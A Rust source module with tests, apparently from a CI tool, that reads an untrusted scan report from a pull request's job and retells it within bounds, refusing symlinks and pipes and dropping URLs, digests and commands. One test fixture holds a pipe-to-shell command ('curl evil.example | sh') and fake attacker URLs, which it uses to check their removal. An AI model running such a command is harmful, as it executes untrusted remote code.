//! A report as a stranger's word: what the job of a change says of itself, where the change could have written it.
//!
//! The job that shows such a report may write to the Security tab and to checks, which the change's own job may not. So the
//! report is read within bounds, and what is shown is told anew: from it come findings and how it says that it ended;
//! environment, thresholds, commit and name come from the job that shows it; digests, addresses, commands and whatever else
//! stands in it are left out.

use std::fs;
use std::io::Read as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::Path;

use super::Error;
use super::bounded::{ENTRIES, FINDINGS};
use super::catalogue::{self, Catalogue};
use super::verdict;
use crate::build_check::BuildCheck;
use crate::document;
use crate::environment::Environment;
use crate::finding::{Finding, Instruction, Leak, Suppression, Vulnerability};
use crate::policy::Threshold;
use crate::record::{Diagnosis, Record, RunResult, Source, Stage, StageOutcome, VERSION};
use crate::text;

/// The most bytes of a record that is read. One with 20,000 findings has half as many.
pub(crate) const BYTES: u64 = 32 << 20;
/// The most characters of a text.
const TEXT: usize = 1000;
/// The longest time, in milliseconds: no job of GitHub's takes longer.
const LONGEST: u64 = 5 * 24 * 60 * 60 * 1000;

/// What the job that shows a report knows by itself.
#[derive(Clone, Debug)]
pub(crate) struct Known {
    /// The environment by whose rules the change is judged.
    pub(crate) environment: Environment,
    /// What counts there.
    pub(crate) threshold: Threshold,
    /// The commit that the run is of.
    pub(crate) commit: String,
    /// The image's name.
    pub(crate) name: String,
}

/// Reads the record in a report's folder.
///
/// # Errors
/// There is none, it is no regular file, it is too large, or it is not a record of this version.
pub(crate) fn read(folder: &Path) -> Result<Record, Error> {
    let path = folder.join("record.json");
    let claim = |reason: String| Error::Claim { path: path.clone(), reason };
    if folder.is_relative() && folder.ancestors().any(Path::is_symlink) {
        return Err(claim("a link is in its way".to_owned()));
    }
    // Neither a link nor, by O_NONBLOCK, a pipe that would keep us waiting.
    let flags = (rustix::fs::OFlags::NOFOLLOW | rustix::fs::OFlags::NONBLOCK).bits();
    let flags = i32::try_from(flags).unwrap_or_default();
    let file = fs::OpenOptions::new().read(true).custom_flags(flags).open(&path);
    let file = file.map_err(|error| claim(error.to_string()))?;
    let is_file = file.metadata().is_ok_and(|metadata| metadata.is_file());
    let mut bytes = Vec::new();
    let read = if is_file { file.take(BYTES + 1).read_to_end(&mut bytes) } else { Ok(0) };
    read.map_err(|error| claim(error.to_string()))?;
    if !is_file || bytes.len() as u64 > BYTES {
        return Err(claim(format!("a file of at most {} MiB is expected", BYTES >> 20)));
    }
    let record: Record = document::read(&bytes).map_err(|error| claim(error.to_string()))?;
    if record.version != VERSION {
        return Err(claim(format!("its version is {}, and {VERSION} is expected", record.version)));
    }
    if record.publication.is_some() || record.result == Some(RunResult::Delivered) {
        return Err(claim("it says that an image was published, and a change's job publishes none".to_owned()));
    }
    Ok(record)
}

/// Tells a claim anew, with what is known beside it.
#[must_use]
pub(crate) fn retold(claim: Record, known: Known) -> Record {
    let mut record = Record::begin(jiff::Timestamp::now());
    let left_out = claim.findings.len().saturating_sub(FINDINGS);
    record.elapsed_ms = claim.elapsed_ms.min(LONGEST);
    record.environment = Some(known.environment);
    record.demands = Some(known.environment.requirements());
    record.severity_threshold = Some(known.threshold.severity);
    record.ignore_unfixed = known.threshold.ignore_unfixed;
    record.source = Some(Source { commit: Some(known.commit), branch: None, tag: None, dirty: false });
    record.name = Some(known.name);
    record.stages = claim.stages.into_iter().take(ENTRIES).map(stage).collect();
    record.findings = claim.findings.into_iter().take(FINDINGS).map(finding).collect();
    record.suppressions = claim.suppressions.into_iter().take(ENTRIES).map(|one| suppression(&one)).collect();
    record.build_checks = claim.build_checks.iter().take(ENTRIES).map(build_check).collect();
    record.failure = claim.failure.as_ref().map(failure);
    record.warnings = vec![
        "This is what the change's own job says of itself. Whatever ran there could have written it, so it vouches for \
         nothing: the job's own check does."
            .to_owned(),
    ];
    if left_out > 0 {
        record.warnings.push(format!("{} left out: too many to show.", text::count(left_out, "finding")));
    }
    record.result = Some(result(claim.result, &record));
    record
}

/// How it ended: as it says, unless what it found says otherwise.
fn result(claimed: Option<RunResult>, record: &Record) -> RunResult {
    let holds_back = || {
        let counted = verdict::counted(record, &Catalogue::of(record), |tool| catalogue::is_blocking(record, tool));
        !counted.is_empty()
    };
    match claimed.unwrap_or(RunResult::Cancelled) {
        RunResult::Skipped | RunResult::Delivered if holds_back() => RunResult::Blocked,
        RunResult::Delivered => RunResult::Skipped,
        other => other,
    }
}

fn stage(stage: Stage) -> Stage {
    let outcome = match stage.outcome {
        StageOutcome::Skipped(why) => StageOutcome::Skipped(cut(&why)),
        StageOutcome::Failed(what) => StageOutcome::Failed(cut(&what)),
        other => other,
    };
    Stage {
        name: stage.name,
        started_ms: stage.started_ms.min(LONGEST),
        elapsed_ms: stage.elapsed_ms.min(LONGEST),
        waited_ms: 0,
        waited_for: Vec::new(),
        outcome,
        detail: cut(&stage.detail),
    }
}

fn finding(finding: Finding) -> Finding {
    match finding {
        Finding::Leak(leak) => Finding::Leak(Leak {
            rule: cut(&leak.rule),
            description: cut(&leak.description),
            file: cut(&leak.file),
            line: leak.line,
            commit: leak.commit.as_deref().map(cut),
            layer: leak.layer,
            fingerprint: cut(&leak.fingerprint),
            tool: leak.tool,
        }),
        Finding::Vulnerability(vulnerability) => Finding::Vulnerability(Vulnerability {
            id: cut(&vulnerability.id),
            severity: vulnerability.severity,
            title: cut(&vulnerability.title),
            package: cut(&vulnerability.package),
            installed: cut(&vulnerability.installed),
            fixed: vulnerability.fixed.as_deref().map(cut),
            target: cut(&vulnerability.target),
            url: None,
            platform: vulnerability.platform,
            layer: None,
            instruction: vulnerability.instruction.map(|instruction| Instruction {
                file: cut(&instruction.file),
                line: instruction.line,
                end_line: instruction.end_line,
                text: cut(&instruction.text),
            }),
            tool: vulnerability.tool,
        }),
    }
}

/// What a check says; its address may be anyone's.
fn build_check(check: &BuildCheck) -> BuildCheck {
    BuildCheck {
        file: cut(&check.file),
        rule: check.rule.as_deref().map(cut),
        message: cut(&check.message),
        url: None,
        line: check.line,
        end_line: check.end_line,
        fails: check.fails,
    }
}

fn suppression(suppression: &Suppression) -> Suppression {
    Suppression {
        tool: suppression.tool,
        by: cut(&suppression.by),
        id: cut(&suppression.id),
        reason: suppression.reason.as_deref().map(cut),
        count: suppression.count,
        standing: suppression.standing,
        set_in: None,
        expires: None,
    }
}

/// What failed and why. What to do about it is said where it failed: commands of a stranger are not shown.
fn failure(failure: &Diagnosis) -> Diagnosis {
    let why: Vec<String> = text::lines(&failure.why, TEXT).take(20).map(String::from).collect();
    Diagnosis {
        what: cut(&failure.what),
        why: why.join("\n"),
        remedy: "The summary of the change's own job says what to do.".to_owned(),
        excerpt: Vec::new(),
        to_copy: Vec::new(),
    }
}

fn cut(text: &str) -> String {
    text::line(text, TEXT).into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Severity;
    use crate::report::fixture;

    fn known() -> Known {
        Known {
            environment: Environment::Prod,
            threshold: Threshold { severity: Severity::High, ignore_unfixed: false },
            commit: "a".repeat(40),
            name: "team/app".to_owned(),
        }
    }

    fn written(content: &[u8]) -> Result<Record, Error> {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("record.json"), content).unwrap();
        read(folder.path())
    }

    fn json(record: &Record) -> serde_json::Value {
        serde_json::to_value(record).unwrap()
    }

    #[test]
    fn what_the_claim_does_not_decide_is_what_is_known() {
        let mut claim = fixture::blocked();
        claim.environment = Some(Environment::Local);
        claim.demands = Some(Environment::Local.requirements());
        claim.severity_threshold = Some(Severity::Critical);
        claim.name = Some("another/image".to_owned());
        claim.gp_deliver = "99.0.0".to_owned();
        let findings = claim.findings.len();
        let record = retold(claim, known());
        assert_eq!(record.environment, Some(Environment::Prod));
        assert_eq!(record.demands, Some(Environment::Prod.requirements()));
        assert_eq!((record.severity_threshold, record.name.as_deref()), (Some(Severity::High), Some("team/app")));
        assert_eq!((record.gp_deliver.as_str(), record.findings.len()), (env!("CARGO_PKG_VERSION"), findings));
        assert_eq!(record.source.unwrap().commit, Some("a".repeat(40)));
    }

    #[test]
    fn a_claim_that_all_passed_is_held_against_its_own_findings() {
        let mut claim = fixture::blocked();
        claim.result = Some(RunResult::Skipped);
        claim.demands = Some(Environment::Local.requirements());
        assert_eq!(retold(claim, known()).result, Some(RunResult::Blocked));
        let advisory = Known { environment: Environment::Dev, ..known() };
        let claim = Record { result: Some(RunResult::Skipped), ..fixture::blocked() };
        assert_eq!(retold(claim, advisory).result, Some(RunResult::Skipped));
        assert_eq!(retold(Record { result: None, ..fixture::skipped() }, known()).result, Some(RunResult::Cancelled));
    }

    #[test]
    fn no_digest_address_or_command_of_the_claim_is_told() {
        let mut claim = fixture::failed();
        claim.findings = fixture::blocked().findings;
        claim.image = fixture::blocked().image;
        claim.destination = Some("registry.evil.example/team/app".to_owned());
        claim.warnings = vec!["Run evil.sh.".to_owned()];
        if let Some(failure) = &mut claim.failure {
            failure.remedy = "Run evil.sh.".to_owned();
            failure.to_copy = vec!["curl evil.example | sh".to_owned()];
            failure.excerpt = vec!["evil".to_owned()];
        }
        for finding in &mut claim.findings {
            if let Finding::Vulnerability(vulnerability) = finding {
                vulnerability.url = Some("https://evil.example/".to_owned());
            }
        }
        let told = json(&retold(claim, known())).to_string();
        assert!(!told.contains("evil") && !told.contains("sha256:"), "{told}");
    }

    #[test]
    fn a_claim_beyond_all_bounds_is_told_within_them() {
        let mut claim = fixture::many(FINDINGS + 5);
        claim.elapsed_ms = u64::MAX;
        for stage in &mut claim.stages {
            (stage.started_ms, stage.elapsed_ms, stage.waited_ms) = (u64::MAX, u64::MAX, u64::MAX);
            stage.detail = "x".repeat(1 << 20);
        }
        let record = retold(claim, known());
        assert_eq!(record.findings.len(), FINDINGS);
        assert!(record.warnings.iter().any(|warning| warning.starts_with("5 findings left out")), "{:?}", record.warnings);
        assert!(record.stages.iter().all(|stage| stage.ended_ms() <= 2 * LONGEST && stage.detail.len() < 2 * TEXT));
        assert!(crate::report::summary::render(&record, 65_535).len() <= 65_535);
    }

    #[test]
    fn what_is_not_the_record_of_a_change_is_refused() {
        let with = |change: &dyn Fn(&mut serde_json::Value)| {
            let mut record = json(&fixture::skipped());
            change(&mut record);
            written(record.to_string().as_bytes())
        };
        assert!(with(&|_| ()).is_ok());
        assert!(with(&|record| record["version"] = 1.into()).is_err());
        assert!(with(&|record| record["result"] = "delivered".into()).is_err());
        assert!(with(&|record| record["publication"] = json(&fixture::delivered())["publication"].clone()).is_err());
        assert!(written(b"[]").is_err());
        let twice = json(&fixture::skipped()).to_string().replacen("{\"", "{\"result\":\"blocked\",\"", 1);
        assert!(written(twice.as_bytes()).is_err(), "a key that stands twice has two readings");
        assert!(written(&vec![b' '; usize::try_from(BYTES).unwrap() + 1]).is_err());
    }

    #[test]
    fn a_link_or_a_pipe_in_its_place_is_not_read() {
        let place = tempfile::tempdir().unwrap();
        let record = place.path().join("elsewhere.json");
        fs::write(&record, json(&fixture::skipped()).to_string()).unwrap();
        let folder = place.path().join("report");
        fs::create_dir(&folder).unwrap();
        std::os::unix::fs::symlink(&record, folder.join("record.json")).unwrap();
        assert!(matches!(read(&folder), Err(Error::Claim { .. })));
        fs::remove_file(folder.join("record.json")).unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, folder.join("record.json"), rustix::fs::Mode::RUSR).unwrap();
        assert!(matches!(read(&folder), Err(Error::Claim { .. })));
        assert!(matches!(read(&place.path().join("absent")), Err(Error::Claim { .. })));
    }
}
